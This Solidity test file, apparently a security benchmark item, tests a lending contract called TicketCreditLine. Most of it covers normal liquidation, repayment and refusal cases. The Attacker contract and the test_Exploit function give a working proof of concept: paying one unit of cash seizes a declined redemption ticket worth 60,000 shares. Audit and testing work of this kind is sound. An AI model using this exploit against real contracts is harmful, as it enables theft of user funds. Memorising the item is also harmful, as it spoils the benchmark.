// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-49f03ef1-d23f-4bdc-b2f5-be5f35ab5127

import "./TicketCreditLine.sol";
import "./context/RedemptionDesk.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract TestToken is IERC20 {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    uint8 public immutable decimals;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor(uint8 decimals_) {
        decimals = decimals_;
    }

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return !asleep;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A borrower with an ordinary account.
contract Borrower {
    TicketCreditLine private line;

    constructor(TicketCreditLine line_) {
        line = line_;
        TestToken(address(line_.fundShare())).approve(address(line_), type(uint256).max);
        TestToken(address(line_.cash())).approve(address(line_), type(uint256).max);
    }

    function deposit(uint256 shares) external {
        line.depositShares(shares);
    }

    function withdraw(uint256 shares) external {
        line.withdrawShares(shares);
    }

    function request(uint256 shares) external returns (uint256) {
        return line.requestRedemption(shares);
    }

    function draw(uint256 amount) external {
        line.draw(amount);
    }

    function repay(uint256 amount) external {
        line.repay(address(this), amount);
    }

    function release(uint256 id) external {
        line.releaseTicket(id);
    }
}

/// An account without a role that owns the smallest unit of cash.
contract Attacker {
    function take(TicketCreditLine line, address borrower, uint256 id) external {
        line.cash().approve(address(line), 1);
        uint256[] memory ids = new uint256[](1);
        ids[0] = id;
        line.liquidate(borrower, 1, 0, ids);
    }

    function redeem(IRedemptionDesk desk, uint256 id) external {
        desk.takeBack(id);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;

    TestToken public cash;
    TestToken public token;
    RedemptionDesk public desk;
    TicketCreditLine public line;
    Borrower public borrower;
    Attacker public thief;
    uint256 public declined;
    uint256 public open;

    function setUp() public {
        vm.warp(START);
        cash = new TestToken(6);
        token = new TestToken(18);
        desk = new RedemptionDesk(token, cash, 1e6);
        line = new TicketCreditLine(cash, token, desk);
        cash.mint(address(line), 500_000e6);
        cash.mint(address(this), 500_000e6);
        cash.approve(address(desk), type(uint256).max);
        cash.approve(address(line), type(uint256).max);

        borrower = new Borrower(line);
        token.mint(address(borrower), 100_000e18);
        borrower.deposit(100_000e18);
        declined = borrower.request(60_000e18);
        open = borrower.request(10_000e18);
        borrower.draw(70_000e6);
        require(line.isHealthy(address(borrower)), "healthy at first");

        // The administrator declines the large ticket.
        desk.cancel(declined);
        require(!line.isHealthy(address(borrower)), "below the limit");

        thief = new Attacker();
        cash.mint(address(thief), 1);
    }

    function test_Regular() public {
        uint256[] memory none = new uint256[](0);
        uint256[] memory ids = new uint256[](1);

        // An honest liquidator pays for the open ticket and for idle shares.
        uint256 before = token.balanceOf(address(this));
        ids[0] = open;
        line.liquidate(address(borrower), 20_000e6, 11_000e18, ids);
        require(token.balanceOf(address(this)) == before + 11_000e18, "shares taken");
        require(desk.ticket(open).holder == address(this), "ticket taken");
        (uint256 shares, uint256 debt, uint256[] memory tickets) = line.accountInfo(address(borrower));
        require(shares == 19_000e18 && debt == 50_140e6, "account after liquidation");
        require(tickets.length == 1 && tickets[0] == declined, "other ticket stays");

        // More than the repayment plus premium is refused, so is a ticket of no account.
        try line.liquidate(address(borrower), 10_000e6, 10_501e18, none) {
            revert("took too much");
        } catch {}
        try line.liquidate(address(borrower), 10_000e6, 0, ids) {
            revert("took a foreign ticket");
        } catch {}

        // The taken ticket settles for the liquidator.
        desk.settle(open);
        require(desk.cashOut(open) == 10_000e6, "settled");

        // The declined ticket's shares come back to the account after the delay.
        try line.reclaim(declined) {
            revert("reclaimed early");
        } catch {}
        vm.warp(START + 3 days);
        line.reclaim(declined);
        (shares, debt, tickets) = line.accountInfo(address(borrower));
        require(shares == 79_000e18 && tickets.length == 0, "shares are back");
        require(line.isHealthy(address(borrower)), "healthy again");
        try line.liquidate(address(borrower), 1e6, 0, none) {
            revert("liquidated a healthy account");
        } catch {}

        // A settled ticket pays the debt and then the owner.
        uint256 second = borrower.request(60_000e18);
        uint256 third = borrower.request(5_000e18);
        desk.settle(second);
        line.collect(second);
        (shares, debt,) = line.accountInfo(address(borrower));
        require(debt == 0 && shares == 14_000e18, "debt paid");
        require(cash.balanceOf(address(borrower)) == 70_000e6 + 60_000e6 - 50_140e6, "rest paid out");

        // The account can be emptied, and drawing without collateral is refused.
        borrower.release(third);
        require(desk.ticket(third).holder == address(borrower), "ticket released");
        borrower.withdraw(14_000e18);
        try borrower.draw(1e6) {
            revert("drew on nothing");
        } catch {}

        line.defund(1e6);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// An account beyond its limit gives nothing up.
    function test_RefusesBeyondTheLimit() public {
        refuses(address(borrower), TicketCreditLine.LimitExceeded.selector);
        line.withdrawShares(1);
        refuses(address(borrower), TicketCreditLine.LimitExceeded.selector);
        line.requestRedemption(1e18);
        refuses(address(borrower), TicketCreditLine.LimitExceeded.selector);
        line.releaseTicket(open);
        refuses(address(borrower), TicketCreditLine.NotTreasury.selector);
        line.defund(1);
    }

    /// Repayments of something, tickets of the account, eight at most.
    function test_RefusesTickets() public {
        vm.expectRevert(TicketCreditLine.AmountOutOfRange.selector);
        line.repay(address(borrower), 0);
        vm.expectRevert(TicketCreditLine.AmountOutOfRange.selector);
        line.repay(address(borrower), 70_140e6 + 1);
        vm.expectRevert(abi.encodeWithSelector(TicketCreditLine.NotOnAccount.selector, 99));
        line.collect(99);
        vm.expectRevert(abi.encodeWithSelector(TicketCreditLine.NotOnAccount.selector, open));
        line.releaseTicket(open);
        token.mint(address(this), 9e18);
        token.approve(address(line), 9e18);
        line.depositShares(9e18);
        for (uint256 i = 0; i < 8; ++i) line.requestRedemption(1e18);
        vm.expectRevert(TicketCreditLine.TooManyTickets.selector);
        line.requestRedemption(1e18);
    }

    /// Tokens that say no are believed.
    function test_RefusesFailedTransfers() public {
        cash.sleep(true);
        vm.expectRevert(TicketCreditLine.TransferFailed.selector);
        line.repay(address(borrower), 1);
        vm.expectRevert(TicketCreditLine.TransferFailed.selector);
        line.defund(1);
        token.sleep(true);
        vm.expectRevert(TicketCreditLine.TransferFailed.selector);
        line.depositShares(1);
        try new TicketCreditLine(cash, token, desk) {
            revert("a line that cannot redeem");
        } catch (bytes memory why) {
            require(bytes4(why) == TicketCreditLine.TransferFailed.selector, "approve");
        }
    }

    function exploit() public {
        thief.take(line, address(borrower), declined);
        vm.warp(START + 3 days);
        thief.redeem(desk, declined);
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(address(thief));
        exploit();
        require(token.balanceOf(address(thief)) >= before + 60_000e18, "no gain");
        require(cash.balanceOf(address(thief)) == 0, "paid one unit");
    }

    function target() public view returns (address) {
        return address(line);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}
